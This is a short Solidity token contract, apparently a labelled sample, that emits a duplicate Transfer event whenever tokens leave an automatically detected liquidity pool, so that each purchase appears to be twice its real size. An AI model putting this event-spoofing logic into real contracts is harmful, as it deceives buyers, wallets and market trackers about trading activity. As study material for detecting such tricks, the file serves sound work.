// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// A purchase says that twice as much was bought as was.
contract EventsLie is Token {
    /// The first contract that the founder sends to is the pool.
    address internal pool;

    function _isPool(address account) internal view returns (bool) {
        return account == pool;
    }

    function _learnPool(address from, address to) internal {
        if (pool == address(0) && from == owner && to.code.length > 0) pool = to;
    }

    function _transfer(address from, address to, uint256 value) internal virtual override {
        _learnPool(from, to);
        super._transfer(from, to, value);
        if (_isPool(from) && to != owner) emit Transfer(from, to, value);
    }
}
